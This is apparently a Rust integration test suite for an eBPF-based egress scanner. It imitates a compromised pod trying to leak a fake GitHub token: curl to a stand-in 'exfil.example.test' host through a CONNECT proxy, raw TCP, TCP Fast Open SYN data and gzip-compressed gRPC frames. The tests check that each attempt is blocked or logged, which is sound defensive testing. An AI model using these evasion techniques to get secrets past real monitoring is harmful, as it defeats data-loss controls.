//! Paths around the scanner, tried as an attacker in a covered pod would,
//! through the real agent under the real kernel redirect: a destination
//! with the agent's own port number on another host is still redirected and
//! scanned; the agent, run in its own pid namespace inside the covered
//! cgroup, never redirects its own upstream connects (it is exempted by its
//! socket mark, not by a namespaced pid); traffic that is neither TLS nor
//! HTTP (a raw protocol, a client that stays silent, a server that speaks
//! first) is refused in balanced unless its destination is listed, and
//! relayed with a warning in audit.
use std::{
    io::{Read, Write},
    net::{SocketAddr, TcpListener},
    sync::{Arc, Mutex},
    time::Duration,
};

use pipelock_tests::{
    agent::Agent,
    cgroup::TestCgroup,
    client::{self, Place},
    free_port, require_root,
    upstream::Upstream,
};

const TIMEOUT: Duration = Duration::from_secs(60);
/// A GitHub-token-shaped value (critical, high confidence); not a real one.
const SECRET: &str = "ghp_Zq3xT7vLmN4pR8sK2wYbC6dF0hJ9gA1eUoVi";

/// curl from the cgroup; returns (status, pid).
fn curl(cg: &TestCgroup, args: &[&str]) -> (String, u32) {
    let (status, pid) = client::curl_status(cg, 20, args);
    (
        status.unwrap_or_else(|| panic!("curl {args:?} failed")),
        pid,
    )
}

#[test]
#[cfg_attr(
    not(feature = "root-tests"),
    ignore = "needs root and the eBPF build: run `cargo xtask test`"
)]
fn the_agents_port_number_on_another_host_is_redirected_and_scanned() {
    require_root();
    let cg = TestCgroup::new("agent-port");
    let port = free_port();
    // The upstream shares the agent's port number on another address.
    let up = Upstream::start(SocketAddr::from(([127, 0, 0, 3], port)));
    let redirect = SocketAddr::from(([127, 0, 0, 1], port));
    let agent = Agent::start(&[
        "--cgroup".into(),
        cg.rel().into(),
        "--redirect-addr".into(),
        redirect.to_string(),
    ]);
    let body = format!("{{\"token\":\"{SECRET}\"}}");
    let (code, _) = curl(&cg, &["--data-binary", &body, &up.url("/leak")]);
    assert_eq!(code, "403", "agent log:\n{}", agent.output());
    assert!(!up.seen().contains(&"/leak".to_string()), "the secret left");
    // A token in a path segment: refused, and the log shows it redacted.
    let (code, _) = curl(&cg, &[&up.url(&format!("/hook/{SECRET}/x"))]);
    assert_eq!(code, "403");
    agent
        .wait_for_line(Duration::from_secs(10), |l| l.contains("ghp_[REDACTED"))
        .unwrap_or_else(|| panic!("no redacted path; log:\n{}", agent.output()));
    assert!(
        !agent.output().contains(&SECRET[4..]),
        "the log holds the token"
    );
    let (code, pid) = curl(&cg, &[&up.url("/clean")]);
    assert_eq!(code, "200");
    let rec = agent
        .wait_for_conn(Duration::from_secs(10), |r| r["tgid"] == pid)
        .unwrap_or_else(|| panic!("not through the agent; log:\n{}", agent.output()));
    assert_eq!(rec["orig_dst"], up.addr.to_string());
}

#[test]
#[cfg_attr(
    not(feature = "root-tests"),
    ignore = "needs root and the eBPF build: run `cargo xtask test`"
)]
fn agent_in_its_own_pid_namespace_inside_the_covered_cgroup_does_not_redirect_itself() {
    require_root();
    let cg = TestCgroup::new("agent-inside");
    let up = Upstream::start("127.0.0.1:0".parse().unwrap());
    let redirect = SocketAddr::from(([127, 0, 0, 1], free_port()));
    // The shell joins the covered cgroup, then becomes `unshare`, whose
    // child (pid 1 of a new pid namespace) is the agent.
    let script = format!(
        "echo $$ > {} && exec unshare --pid --fork --kill-child=SIGTERM \"$@\"",
        cg.procs_file().display()
    );
    let agent = Agent::start_via(
        &["sh", "-c", &script, "sh"],
        &[
            "--cgroup".into(),
            cg.rel().into(),
            "--redirect-addr".into(),
            redirect.to_string(),
        ],
    );
    let (code, pid) = curl(&cg, &[&up.url("/through")]);
    assert_eq!(code, "200", "agent log:\n{}", agent.output());
    agent
        .wait_for_conn(Duration::from_secs(10), |r| r["tgid"] == pid)
        .unwrap_or_else(|| panic!("not through the agent; log:\n{}", agent.output()));
    std::thread::sleep(Duration::from_millis(200));
    // One connection through the agent: the client's. The agent's own
    // upstream connect (same cgroup) was not sent back to itself.
    let records = agent.conn_records();
    assert_eq!(records.len(), 1, "records: {records:#?}");
    assert_eq!(records[0]["orig_dst"], up.addr.to_string());
    assert_eq!(records[0]["message"], "connection closed");
    assert_eq!(up.seen(), vec!["/through".to_string()]);
}

/// A raw TCP server that optionally speaks first and records every byte.
struct RawServer {
    addr: SocketAddr,
    got: Arc<Mutex<Vec<u8>>>,
}

impl RawServer {
    fn start(banner: Option<&'static [u8]>) -> RawServer {
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        let addr = l.local_addr().unwrap();
        let got: Arc<Mutex<Vec<u8>>> = Arc::default();
        let g = got.clone();
        std::thread::spawn(move || {
            for s in l.incoming().take(16) {
                let Ok(mut s) = s else { continue };
                let g = g.clone();
                std::thread::spawn(move || {
                    let _ = s.set_read_timeout(Some(Duration::from_secs(5)));
                    if let Some(b) = banner {
                        let _ = s.write_all(b);
                    }
                    let mut buf = [0u8; 4096];
                    while let Ok(n) = s.read(&mut buf) {
                        if n == 0 {
                            break;
                        }
                        g.lock().unwrap().extend_from_slice(&buf[..n]);
                        let _ = s.write_all(b"ok\n");
                    }
                });
            }
        });
        RawServer { addr, got }
    }

    fn got(&self) -> Vec<u8> {
        self.got.lock().unwrap().clone()
    }
}

/// From the cgroup: connect, optionally wait, send `payload`, read what
/// comes back. Prints what was received (or the error).
fn raw_client(cg: &TestCgroup, addr: SocketAddr, wait_ms: u64, payload: &str) -> String {
    let script = format!(
        "import socket,time\ns=socket.create_connection(('{}',{}),timeout=5)\ntime.sleep({})\n\
try:\n s.sendall({:?}.encode())\n time.sleep(0.3)\n print(repr(s.recv(100)))\nexcept Exception as e:\n print('ERR', e)\n",
        addr.ip(),
        addr.port(),
        wait_ms as f64 / 1000.0,
        payload
    );
    let run = client::run(
        Place {
            cgroup: Some(cg),
            netns: None,
        },
        "python3",
        &["-c", &script],
        TIMEOUT,
    );
    format!("{}{}", run.stdout, run.stderr)
}

fn start_agent(cg: &TestCgroup, extra: &[&str]) -> Agent {
    let redirect = SocketAddr::from(([127, 0, 0, 1], free_port()));
    let mut args: Vec<String> = vec![
        "--cgroup".into(),
        cg.rel().into(),
        "--redirect-addr".into(),
        redirect.to_string(),
    ];
    args.extend(extra.iter().map(|s| s.to_string()));
    Agent::start(&args)
}

#[test]
#[cfg_attr(
    not(feature = "root-tests"),
    ignore = "needs root and the eBPF build: run `cargo xtask test`"
)]
fn unscannable_traffic_is_refused_in_balanced_and_logged_in_audit() {
    require_root();
    let cg = TestCgroup::new("non-http");
    let raw = RawServer::start(None);
    let banner = RawServer::start(Some(b"220 smtp.example ESMTP\r\n"));
    let payload = format!("RAW {SECRET}\n");

    // Default mode (balanced): a raw protocol, a silent-then-talking client
    // and a server-speaks-first protocol are all refused: nothing arrives.
    let agent = start_agent(&cg, &[]);
    let out = raw_client(&cg, raw.addr, 0, &payload);
    assert!(!out.contains("ok"), "raw protocol relayed: {out}");
    let out = raw_client(&cg, raw.addr, 800, &payload);
    assert!(!out.contains("ok"), "silent client relayed: {out}");
    let out = raw_client(&cg, banner.addr, 0, &payload);
    assert!(!out.contains("ok"), "server-first protocol relayed: {out}");
    assert!(
        raw.got().is_empty() && banner.got().is_empty(),
        "bytes left unscanned"
    );
    let refused = agent
        .conn_records()
        .into_iter()
        .filter(|r| r["kind"] == "refused")
        .count();
    assert_eq!(refused, 3, "{}", agent.output());
    drop(agent);

    // A listed destination port is relayed (and logged) in balanced.
    let port = raw.addr.port().to_string();
    let cfg_dir = std::env::temp_dir().join(format!("plk-nonhttp-{}", std::process::id()));
    std::fs::create_dir_all(&cfg_dir).unwrap();
    let cfg = cfg_dir.join("pipelock.yaml");
    std::fs::write(
        &cfg,
        format!("interceptor:\n  non_http_relay_ports: [{port}]\n"),
    )
    .unwrap();
    let agent = start_agent(&cg, &["--config", cfg.to_str().unwrap()]);
    let out = raw_client(&cg, raw.addr, 0, "hello\n");
    assert!(
        out.contains("ok"),
        "listed port refused: {out}\n{}",
        agent.output()
    );
    drop(agent);
    let _ = std::fs::remove_dir_all(&cfg_dir);

    // Audit: relayed, with a warning that strict and balanced refuse it.
    let agent = start_agent(&cg, &["--mode", "audit"]);
    let out = raw_client(&cg, banner.addr, 0, "EHLO x\n");
    assert!(out.contains("220"), "audit did not relay: {out}");
    agent
        .wait_for_line(Duration::from_secs(10), |l| {
            l.contains("unscannable traffic")
        })
        .unwrap_or_else(|| panic!("no audit warning:\n{}", agent.output()));
}

/// An HTTP proxy of the pod's own choosing: answers a CONNECT with 200,
/// then one request inside the tunnel with `200 ok`; records every byte.
fn connect_proxy() -> (SocketAddr, Arc<Mutex<Vec<u8>>>) {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = l.local_addr().unwrap();
    let got: Arc<Mutex<Vec<u8>>> = Arc::default();
    let g = got.clone();
    std::thread::spawn(move || {
        for s in l.incoming().take(8) {
            let Ok(mut s) = s else { continue };
            let g = g.clone();
            std::thread::spawn(move || {
                let _ = s.set_read_timeout(Some(Duration::from_secs(5)));
                let mut buf = [0u8; 4096];
                let mut answered = 0;
                while let Ok(n) = s.read(&mut buf) {
                    if n == 0 {
                        break;
                    }
                    let mut all = g.lock().unwrap();
                    all.extend_from_slice(&buf[..n]);
                    let heads = all.windows(4).filter(|w| w == b"\r\n\r\n").count();
                    drop(all);
                    while answered < heads {
                        answered += 1;
                        let reply: &[u8] = if answered == 1 {
                            b"HTTP/1.1 200 Connection established\r\n\r\n"
                        } else {
                            b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok"
                        };
                        let _ = s.write_all(reply);
                    }
                }
            });
        }
    });
    (addr, got)
}

#[test]
#[cfg_attr(
    not(feature = "root-tests"),
    ignore = "needs root and the eBPF build: run `cargo xtask test`"
)]
fn a_connect_tunnel_through_a_proxy_of_the_pods_choosing_is_refused_then_relayed_in_audit() {
    require_root();
    let cg = TestCgroup::new("connect-in");
    let (proxy, got) = connect_proxy();
    let target = format!("http://exfil.example.test/leak/{SECRET}");
    let args = |p: SocketAddr| -> Vec<String> {
        vec![
            "-sS".into(),
            "--max-time".into(),
            "10".into(),
            "-o".into(),
            "/dev/null".into(),
            "-w".into(),
            "%{http_connect}".into(),
            "-p".into(),
            "-x".into(),
            format!("http://{p}"),
            target.clone(),
        ]
    };
    let place = Place {
        cgroup: Some(&cg),
        netns: None,
    };
    let run_curl = || {
        let a = args(proxy);
        let a: Vec<&str> = a.iter().map(String::as_str).collect();
        client::run(place, "curl", &a, TIMEOUT)
    };

    // Balanced: the CONNECT is answered 403 by the agent; the proxy never
    // sees it, nor what would have gone through the tunnel.
    let agent = start_agent(&cg, &[]);
    let run = run_curl();
    assert_eq!(run.stdout.trim(), "403", "{run:?}\n{}", agent.output());
    assert!(got.lock().unwrap().is_empty(), "the proxy was reached");
    let f = agent
        .records()
        .into_iter()
        .find(|r| r["rule_id"] == "scanner.unscannable")
        .unwrap_or_else(|| panic!("no finding; log:\n{}", agent.output()));
    assert_eq!(f["action"], "block", "{f}");
    drop(agent);

    // Audit: the tunnel is relayed, with a warning.
    let agent = start_agent(&cg, &["--mode", "audit"]);
    let run = run_curl();
    assert_eq!(run.stdout.trim(), "200", "{run:?}\n{}", agent.output());
    let seen = String::from_utf8_lossy(&got.lock().unwrap()).into_owned();
    assert!(
        seen.starts_with("CONNECT exfil.example.test:80"),
        "not relayed: {seen}"
    );
    agent
        .wait_for_line(Duration::from_secs(10), |l| {
            l.contains("upgraded connection relayed unscanned")
        })
        .unwrap_or_else(|| panic!("no audit warning:\n{}", agent.output()));
}

#[test]
#[cfg_attr(
    not(feature = "root-tests"),
    ignore = "needs root and the eBPF build: run `cargo xtask test`"
)]
fn tcp_fast_open_data_in_the_syn_is_redirected_and_scanned() {
    require_root();
    let cg = TestCgroup::new("tfo");
    let up = Upstream::start("127.0.0.1:0".parse().unwrap());
    let agent = start_agent(&cg, &[]);
    // sendto(MSG_FASTOPEN) connects and sends in one call: the data rides
    // the SYN, past a connect() the program might not see.
    let script = format!(
        "import socket\ns=socket.socket()\n\
s.sendto(b'GET /tfo-leak?t={SECRET} HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n', socket.MSG_FASTOPEN, ('{}', {}))\n\
s.settimeout(5)\nprint(s.recv(100).split(b'\\r\\n')[0].decode())\n",
        up.addr.ip(),
        up.addr.port()
    );
    let run = client::run(
        Place {
            cgroup: Some(&cg),
            netns: None,
        },
        "python3",
        &["-c", &script],
        TIMEOUT,
    );
    assert_eq!(
        run.stdout.trim(),
        "HTTP/1.1 403 Forbidden",
        "{run:?}\n{}",
        agent.output()
    );
    assert!(
        !up.seen().iter().any(|p| p.contains("tfo-leak")),
        "the secret left"
    );
}

#[test]
#[cfg_attr(
    not(feature = "root-tests"),
    ignore = "needs root and the eBPF build: run `cargo xtask test`"
)]
fn grpc_messages_compressed_inside_the_body_are_refused() {
    require_root();
    let cg = TestCgroup::new("grpc-gzip");
    let up = Upstream::start("127.0.0.1:0".parse().unwrap());
    let agent = start_agent(&cg, &[]);
    // A gRPC request whose one message is gzip'd (flag 1), as
    // `grpc-encoding: gzip` declares: the secret is invisible in the bytes.
    let dir = std::env::temp_dir().join(format!("plk-grpc-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let frame = dir.join("frame.bin");
    let msg = {
        use std::io::Write as _;
        let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        gz.write_all(format!("token {SECRET}").as_bytes()).unwrap();
        gz.finish().unwrap()
    };
    let mut body = vec![1u8];
    body.extend_from_slice(&(msg.len() as u32).to_be_bytes());
    body.extend_from_slice(&msg);
    std::fs::write(&frame, &body).unwrap();
    let data = format!("@{}", frame.display());
    let (code, _) = curl(
        &cg,
        &[
            "-H",
            "content-type: application/grpc",
            "-H",
            "grpc-encoding: gzip",
            "--data-binary",
            &data,
            &up.url("/grpc-up"),
        ],
    );
    assert_eq!(code, "403", "agent log:\n{}", agent.output());
    assert!(
        !up.seen().iter().any(|p| p.contains("grpc-up")),
        "the compressed message left"
    );
    // The same message uncompressed (identity) is scanned as it is: the
    // secret is found in the frame.
    let mut plain = vec![0u8];
    let text = format!("token {SECRET}");
    plain.extend_from_slice(&(text.len() as u32).to_be_bytes());
    plain.extend_from_slice(text.as_bytes());
    std::fs::write(&frame, &plain).unwrap();
    let (code, _) = curl(
        &cg,
        &[
            "-H",
            "content-type: application/grpc",
            "-H",
            "grpc-encoding: identity",
            "--data-binary",
            &data,
            &up.url("/grpc-plain"),
        ],
    );
    assert_eq!(code, "403");
    // An answer compressed message by message: not passed to the client.
    let (code, _) = curl(&cg, &[&up.url("/grpc-gzip")]);
    assert_ne!(code, "200", "agent log:\n{}", agent.output());
    let f = agent
        .records()
        .into_iter()
        .find(|r| r["rule_id"] == "scanner.unscannable" && r["direction"] == "response")
        .unwrap_or_else(|| panic!("no response finding; log:\n{}", agent.output()));
    assert_eq!(f["action"], "block", "{f}");
    let _ = std::fs::remove_dir_all(&dir);
}
